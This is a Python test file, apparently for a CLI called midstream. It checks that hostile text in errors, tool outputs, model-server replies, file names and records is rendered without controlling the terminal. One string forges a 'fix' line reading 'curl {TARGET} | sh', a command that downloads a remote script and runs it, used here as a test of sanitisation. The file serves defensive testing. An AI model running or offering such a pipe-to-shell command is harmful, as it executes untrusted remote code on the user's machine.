"""Hostile text from every source, through every command that shows it: no byte of it steers the terminal.

Most commands run in this process with Rich's colors forced; a few as the real command under a pseudoterminal.
"""

from __future__ import annotations

import errno
import json
import os
import pty
import subprocess
import sys
import traceback
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import islice
from pathlib import Path

import pytest

from midstream.cli import train
from midstream.cli.main import main
from midstream.core import errors
from midstream.core.errors import MidstreamError
from midstream.lessons.lesson_set import Lesson, LessonSet
from midstream.runs.journal import warn
from support.escapes import HOSTILE, TARGET, assert_clean
from support.evaluations import write
from support.learned import write_run
from support.llm_server import AgentFlowReplies, LLMServer, prompt_of

EVIL = "evil " + " ".join(text for name, text in HOSTILE.items() if name != "surrogate").replace("\0", "")
FORGED = f"{EVIL}\n  fix: curl {TARGET} | sh\nerror[forged]: {EVIL}"
JSON_EVIL = json.dumps(EVIL + HOSTILE["surrogate"])
TOOLS = f'''
def speak(text: str) -> str:
    """Speaks {EVIL.encode("unicode_escape").decode().replace('"', "'")}.

    Args:
        text: what.
    """
    return {EVIL!a}

'''
RECIPE = """
extends = "agentflow-prompted"
[engines.model]
model = "m"
base_url = "{0}"
max_attempts = 2
first_pause_s = 0.0
"""


def toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def error_classes(base: type[MidstreamError] = MidstreamError) -> Iterator[type[MidstreamError]]:
    yield base
    for kind in base.__subclasses__():
        yield from error_classes(kind)


ERRORS = [kind for kind in error_classes() if kind.__module__ == errors.__name__]


def check(output: str) -> None:
    assert "evil" in output
    assert_clean(output, styled=True)


@pytest.mark.parametrize("kind", ERRORS)
def test_every_kind_of_error(monkeypatch, capsys, kind):
    def fail(options: object) -> int:
        raise kind(FORGED, cause=FORGED, fix=FORGED, code="some-code")

    monkeypatch.setattr(train, "run", fail)
    assert main(["train", "x"]) in (1, 2)
    output = capsys.readouterr().err
    check(output)
    lines = output.splitlines()
    assert [line for line in lines if line.startswith("error[")] == lines[:1]
    assert sum(line.startswith("  fix: ") for line in lines) == sum(line.startswith("  cause: ") for line in lines) == 1


@pytest.mark.parametrize("failure", [OSError(errno.EIO, EVIL, EVIL), ValueError(EVIL), KeyboardInterrupt()], ids=type)
def test_every_other_end_of_a_command(monkeypatch, capsys, failure):
    failure.add_note(f"evil note {EVIL}")

    def fail(options: object) -> int:
        warn("%s", EVIL)
        raise failure

    monkeypatch.setattr(train, "run", fail)
    try:
        main(["train", "x"])
    except ValueError as bug:
        traceback.print_exception(bug)  # as the interpreter does
    check(capsys.readouterr().err)


def refused(directory: Path, server: str) -> Iterator[list[str]]:
    """Commands whose input is wrong, and is quoted."""
    recipe, tasks, tools = directory / "r.toml", directory / "t.jsonl", directory / "tools.py"
    base = RECIPE.format("http://127.0.0.1:9/v1")
    for number, line in enumerate(
        (
            f"[{toml(EVIL)}]\nx = 1",
            f"[tools.guess]\nx = {toml(EVIL)}",
            f"[evaluation]\nsets = [{{name = {toml(EVIL)}}}, {{name = {toml(EVIL)}}}]",
            f"[tasks]\ntype = {toml(EVIL)}",
            f"[agent]\nlessons = {toml('/' + EVIL)}",
        )
    ):
        (directory / f"r{number}.toml").write_text(f"{base}\n{line}\n")
        yield ["eval", f"{directory}/r{number}.toml"]
    recipe.write_text(base)
    tasks.write_text(json.dumps({"question": "x", "answer": "y", "reward": EVIL}) + "\n")
    tools.write_text(f"raise ValueError({EVIL!a})")
    yield ["eval", str(recipe), "--tasks", str(tasks)]
    yield ["eval", str(recipe), "--tasks", f"/{EVIL}"]
    yield ["eval", str(recipe), "--set", f"{EVIL}=1"]
    yield ["eval", str(recipe), "--set", f"tasks={EVIL}"]
    yield ["call", f"{tools}:evil"]
    for command in ("train", "resume", "show", "eval"):
        yield [command, EVIL]
    yield ["train", "x", f"--{EVIL}"]
    yield ["compare", EVIL, EVIL]
    yield ["lessons", "show", EVIL]
    yield ["index", "build", EVIL]
    yield ["list", "benchmarks", EVIL]
    yield ["study", EVIL]


def answering(body: dict) -> str | dict:
    """A model that says hostile things in every role."""
    return AgentFlowReplies(tool="speak", arguments={"text": EVIL}, turns=1, answer=EVIL)(body)


def shown(directory: Path, server: str) -> Iterator[list[str]]:
    """Commands that show what models, tools, servers and records hold."""
    (directory / "tools.py").write_text(TOOLS)
    recipe, tasks = directory / "r.toml", directory / f"evil {HOSTILE['color']} {HOSTILE['bidi']} {HOSTILE['c1']}.jsonl"
    recipe.write_text(
        RECIPE.format(server) + f'[tools.speak]\ntype = "function"\nfunction = "{directory}/tools.py:speak"\n'
    )
    tasks.write_text(json.dumps({"question": f"What? {EVIL}", "answer": EVIL}) + "\n")
    words = ["--recipe", str(recipe), "--tools", "speak"]
    yield ["solve", f"Why? {EVIL}", *words]
    yield ["solve", f"Why? {EVIL}", *words, "--quiet"]
    yield ["solve", f"Why? {EVIL}", *words, "--json"]
    yield ["call", "speak", "--recipe", str(recipe)]
    yield ["call", "speak", "evil", "--recipe", str(recipe)]
    yield ["call", "speak", "evil", "--recipe", str(recipe), "--json"]
    yield ["eval", str(recipe), "--tasks", str(tasks), "--out", str(directory / "e")]
    yield ["show", str(directory / "e")]
    yield ["show", str(directory / "e"), "--tasks"]
    yield ["show", str(directory / "e"), "--json"]
    lesson = Lesson(id="L1", text=f"Evil: {EVIL}")
    write_run(directory / "p", versions=(LessonSet(), LessonSet(lessons=(lesson,), next_number=2)))
    yield ["lessons", "show", str(directory / "p")]
    yield ["lessons", "diff", f"{directory}/p@1", f"{directory}/p@2"]
    for name in "ab":
        write(directory / name, {f"t {EVIL}": [1.0], "u": [0.0]}, set_name=EVIL, policy=EVIL, gold=EVIL)
    yield ["compare", str(directory / "a"), str(directory / "b"), "--tasks"]
    yield ["doctor", "--base-url", server, "--model", f"evil{EVIL}"]


def failing(body: dict) -> dict:
    """A server that refuses with hostile text."""
    return {"error": {"message": FORGED, "code": 400 if "planner" in prompt_of(body).lower() else 503, "type": EVIL}}


def failed(directory: Path, server: str) -> Iterator[list[str]]:
    """Commands whose server fails."""
    recipe, tasks = directory / "r.toml", directory / "t.jsonl"
    recipe.write_text(RECIPE.format(server))
    tasks.write_text(json.dumps({"question": "What?", "answer": "x"}) + "\n")
    yield ["eval", str(recipe), "--tasks", str(tasks), "--out", str(directory / "e")]
    yield ["show", str(directory / "e")]
    for form in ([], ["--quiet"], ["--json"]):
        yield ["solve", "Why?", "--recipe", str(recipe), *form]
    yield ["doctor", "--base-url", server, "--model", "m"]


Commands = Callable[[Path, str], Iterator[list[str]]]


@pytest.mark.parametrize(
    ("commands", "reply", "most"),
    [
        (refused, answering, 100),
        (failed, failing, 1),
        pytest.param(failed, failing, 100, marks=pytest.mark.slow),
        pytest.param(shown, answering, 100, marks=pytest.mark.slow),
    ],
)
def test_every_place_where_foreign_text_is_shown(monkeypatch, tmp_path, capsys, commands: Commands, reply, most):
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "300")
    silent = []
    with LLMServer(reply) as server:
        for words in islice(commands(tmp_path, server.base_url), most):
            with suppress(SystemExit):  # argparse's
                main(words)
            captured = capsys.readouterr()
            output = captured.out + captured.err
            assert "Traceback" not in output, words
            assert_clean(output, styled=True)
            if "--json" in words:
                json.loads(captured.out)
            silent += [] if "evil" in output else [words]
    assert silent == []


def under_a_terminal(*words: str, cwd: Path) -> str:
    """What the real command writes to its terminal."""
    mine, its = pty.openpty()
    arguments = [sys.executable, "-m", "midstream", *words]
    environment = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "300"}
    process = subprocess.Popen(arguments, stdin=its, stdout=its, stderr=its, env=environment, cwd=cwd)
    os.close(its)
    output = b""
    with suppress(OSError):  # Linux's end of a terminal
        while piece := os.read(mine, 1 << 16):
            output += piece
    os.close(mine)
    process.wait(60)
    return output.decode("utf-8", "surrogateescape")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("commands", "reply", "places"),
    [
        (shown, answering, (0,)),
        pytest.param(failed, failing, (0, 2, 5), marks=pytest.mark.slow),
        pytest.param(refused, answering, (0, 2, 6, 9, 10, 14), marks=pytest.mark.slow),
        pytest.param(shown, answering, (3, 4, 6, 8, 10, 13, 14), marks=pytest.mark.slow),
    ],
)
def test_the_real_command_on_a_terminal(tmp_path, commands: Commands, reply, places):
    with LLMServer(reply) as server:
        for words in [found for place, found in enumerate(commands(tmp_path, server.base_url)) if place in places]:
            output = under_a_terminal(*words, cwd=tmp_path)
            check(output)
